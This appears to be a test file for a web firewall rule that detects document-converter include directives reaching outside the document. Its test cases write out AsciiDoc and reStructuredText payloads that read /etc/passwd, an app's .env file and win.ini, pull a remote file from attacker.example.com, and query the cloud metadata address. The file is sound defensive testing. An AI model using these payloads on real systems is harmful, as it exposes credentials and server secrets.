/**
 * A document converter's include directive reaching outside the document (931140, doc-includes.ts):
 * the fifty-fifth blind pair's AsciiDoc and reStructuredText includes, in a field and in an upload.
 */
import { describe, expect, it } from "vitest";
import { includeDirectiveLines, outsideInclude } from "../../../core/signatures/doc-includes.ts";
import { matchesAt } from "./support.ts";

const enc = new TextEncoder();

describe("include directives", () => {
  it("takes an absolute path, two parent directories, a drive or a URL", () => {
    for (const v of [
      "= Guide\n\ninclude::/etc/passwd[]\n",
      "= Title\n:allow-uri-read:\n\ninclude::https://attacker.example.com/payload.adoc[]",
      "Title\n=====\n\n.. include:: /etc/passwd\n   :literal:",
      ".. literalinclude:: ../../../../home/app/.env",
      "include::C:\\Windows\\win.ini[]",
      ".. csv-table:: Rates\n   :url: http://169.254.169.254/latest/meta-data/",
    ])
      expect(outsideInclude(v), v).toBe(true);
  });

  it("leaves a document's own chapters, Sphinx's README include and prose alone", () => {
    for (const v of [
      "include::chapter1.adoc[]\ninclude::partials/_attributes.adoc[tag=product]",
      ".. include:: ../README.rst",
      "include::{docdir}/shared/legal.adoc[]",
      "The include:: macro of AsciiDoc pulls in another file.",
      ":file: rates.csv",
    ])
      expect(outsideInclude(v), v).toBe(false);
  });

  it("is judged in a JSON field and in an uploaded text file's directive lines", () => {
    const json = matchesAt({
      method: "POST",
      body: {
        bytes: enc.encode(JSON.stringify({ asciidoc: "= T\n\ninclude::https://x.example/a.adoc[]" })),
        contentType: "application/json",
        truncated: false,
      },
    });
    expect(json).toContain("931140@body:json.asciidoc");
    const upload = matchesAt({
      method: "POST",
      body: {
        bytes: enc.encode(
          '--b\r\nContent-Disposition: form-data; name="doc"; filename="guide.adoc"\r\nContent-Type: text/asciidoc\r\n\r\n= Guide\n\ninclude::/etc/passwd[]\n\r\n--b--\r\n',
        ),
        contentType: "multipart/form-data; boundary=b",
        truncated: false,
      },
    });
    expect(upload).toContain("931140@body:multipart.doc.content.include");
    expect(upload).toContain("930120@body:multipart.doc.content.include");
    expect(includeDirectiveLines("intro\ninclude::a.adoc[]\nmore")).toEqual(["include::a.adoc[]"]);
  });
});
